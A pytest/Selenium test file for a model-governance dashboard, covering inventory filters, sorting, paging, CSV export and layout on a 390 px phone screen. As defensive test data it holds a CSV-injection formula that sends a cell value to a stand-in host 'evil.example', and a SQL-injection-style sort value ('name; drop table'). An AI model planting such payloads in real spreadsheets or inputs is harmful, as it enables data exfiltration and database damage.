"""The compliance officer's workspace in a real headless Chromium: the inventory grouped by model
with filters, sorting, paging and CSV; alerts acknowledged and resolved from the page; approvals
with their evidence and a confirmation step; the audit log's filters; 404 pages; and a 390 px
wide phone screen that nothing overflows. Screenshots go to tests/dashboards/screenshots/."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx
import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import WebDriverWait

from governance.mlmodel import service as model_service
from tests.dashboards.conftest import SCREENSHOTS, Site

PHONE = (390, 844)


def _login(driver: Any, base: str, key: str) -> None:
    driver.delete_all_cookies()
    driver.get(f"{base}/login")
    driver.find_element(By.ID, "key").send_keys(key)
    driver.find_element(By.CSS_SELECTOR, "#login-form button").click()
    WebDriverWait(driver, 15).until(expected_conditions.url_to_be(f"{base}/"))


def _console_errors(driver: Any) -> list[str]:
    return [entry["message"] for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]


def _loaded(driver: Any) -> None:
    WebDriverWait(driver, 15).until(lambda d: d.execute_script("return document.readyState") == "complete")


def _more_models(site: Site, torchscript_models: list[Path]) -> None:
    """tumour@3 in production (tumour@1 and @2 fold under it), and a second model by another owner
    whose description is a spreadsheet formula (the CSV must keep it text)."""
    with site.db.transaction() as session:
        mv = model_service.get_by_ref(session, "tumour@3")
        model_service.set_stage(
            session, mv=mv, stage="production", actor="admin", reason="low risk, meets policy"
        )
        model_service.register(
            session,
            storage=None,
            artifact=model_service.inspect_artifact(torchscript_models[0]),
            name="spam-filter",
            version="1",
            intended_use="internal",
            actor="admin",
            risk_tier="low",
            datasets=[("cancer@1", "train")],
            task="classification",
            metrics={"accuracy": 0.91},
            description='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        )


def _inventory_refs(driver: Any) -> list[str]:
    return list(
        driver.execute_script(
            "return [...document.querySelectorAll('#inventory tr.head')].map(r => r.dataset.ref)"
        )
    )


def test_inventory_groups_filters_sorts_pages_and_exports(
    browser: Any, site: Site, torchscript_models: list[Path]
) -> None:
    _more_models(site, torchscript_models)
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["viewer"])
    driver.get(f"{base}/")
    _loaded(driver)
    # one row per model; the production version heads tumour, the others are folded
    assert _inventory_refs(driver) == ["spam-filter@1", "tumour@3"]
    tumour = driver.find_element(By.CSS_SELECTOR, 'tbody[data-model="tumour"]')
    assert not tumour.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@1"]').is_displayed()
    tumour.find_element(By.CSS_SELECTOR, "details > summary").click()
    folded = tumour.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@1"]')
    assert folded.is_displayed()
    # status cells say what they mean, with the date of the last run
    assert folded.find_element(By.CSS_SELECTOR, "td.drift").text == "breach 2026-11-01"
    assert folded.find_element(By.CSS_SELECTOR, "td.robustness").text == "warning 2026-11-01"
    assert folded.find_element(By.CSS_SELECTOR, "td.quality").text == "not monitored"
    head = tumour.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@3"]')
    assert head.find_element(By.CSS_SELECTOR, "td.drift").text == "not monitored"
    # open alerts link to that model's open alerts
    link = folded.find_element(By.CSS_SELECTOR, "td.alerts a")
    assert link.text == "1 open" and link.get_attribute("href").endswith(
        "/alerts?model=tumour%401&status=open"
    )
    driver.save_screenshot(str(SCREENSHOTS / "inventory-grouped.png"))

    # filters through the form: monitor status "breach" keeps only tumour, headed by the breaching version
    driver.find_element(By.CSS_SELECTOR, "select[name=monitor] option[value=breach]").click()
    driver.find_element(By.CSS_SELECTOR, "#filters button[type=submit]").click()
    WebDriverWait(driver, 15).until(expected_conditions.url_contains("monitor=breach"))
    _loaded(driver)
    assert _inventory_refs(driver) == ["tumour@1"]
    for query, refs in {
        "q=spam": ["spam-filter@1"],
        "q=%25": [],  # a LIKE wildcard is searched for as text
        "owner=admin": ["spam-filter@1"],
        "stage=archived": [],
        "risk=high": ["tumour@1"],
        "monitor=not_monitored": ["spam-filter@1", "tumour@3"],
        "monitor=no_run": [],
        "compliance=ok": ["spam-filter@1", "tumour@3"],
        "sort=name&desc=1": ["tumour@3", "spam-filter@1"],
        "sort=updated&desc=1": ["spam-filter@1", "tumour@3"],
        "per_page=10&page=2": [],
    }.items():
        driver.get(f"{base}/?{query}")
        assert _inventory_refs(driver) == refs, query
    assert _console_errors(driver) == []
    driver.get(f"{base}/?stage=retired")  # a 400 page that says why, not an empty list
    assert driver.find_element(By.ID, "problem").text.startswith("unknown stage 'retired'")
    assert _inventory_refs(driver) == []

    # CSV: every matching version, formulas kept as text
    cookie = driver.get_cookie("govern_session")["value"]
    r = httpx.get(f"{base}/inventory.csv", params={"q": "spam"}, cookies={"govern_session": cookie})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["model"], x["version"]) for x in rows] == [("spam-filter", "1")]
    assert rows[0]["description"].startswith("'=HYPERLINK(")
    r = httpx.get(f"{base}/inventory.csv", cookies={"govern_session": cookie})
    assert sorted(x["version"] for x in csv.DictReader(io.StringIO(r.text)) if x["model"] == "tumour") == [
        "1",
        "2",
        "3",
    ]
    assert httpx.get(f"{base}/inventory.csv").status_code in (303, 307)  # anonymous: to the login


def test_inventory_pages_in_sql(site: Site, torchscript_models: list[Path]) -> None:
    from dashboards import inventory
    from governance.approval.service import ApprovalPolicy

    _more_models(site, torchscript_models)
    with site.db.transaction() as session:
        first = inventory.listing(session, ApprovalPolicy(), inventory.parse_filters(per_page="10"))
        assert first["total"] == 2 and [m["name"] for m in first["models"]] == ["spam-filter", "tumour"]
        for bad in ({"page": "0"}, {"per_page": "7"}, {"risk": "extreme"}, {"sort": "name; drop table"}):
            with pytest.raises(Exception, match=r"page|per_page|risk tier|sort"):
                inventory.parse_filters(**bad)


def _no_overflow(driver: Any) -> int:
    return int(driver.execute_script("return document.documentElement.scrollWidth - window.innerWidth"))


def test_pages_fit_a_390_px_phone(browser: Any, site: Site, torchscript_models: list[Path]) -> None:
    _more_models(site, torchscript_models)
    base, driver = site.base, browser
    _login(driver, base, site.world.keys["editor"])
    driver.set_window_size(*PHONE)
    try:
        inner = driver.execute_script("return window.innerWidth")
        assert inner <= 400, inner
        for name, path in {
            "inventory": "/",
            "alerts": "/alerts",
            "approvals": "/approvals",
            "audit": "/audit",
            "model": "/models/tumour/1",
        }.items():
            driver.get(base + path)
            _loaded(driver)
            driver.save_screenshot(str(SCREENSHOTS / f"phone-{name}.png"))
            assert _no_overflow(driver) <= 0, name
        driver.get(f"{base}/")
        drift = driver.find_element(By.CSS_SELECTOR, 'tr[data-ref="tumour@3"] td.drift')
        assert drift.is_displayed() and drift.rect["x"] + drift.rect["width"] <= inner
        assert _console_errors(driver) == []
    finally:
        driver.set_window_size(1400, 1000)
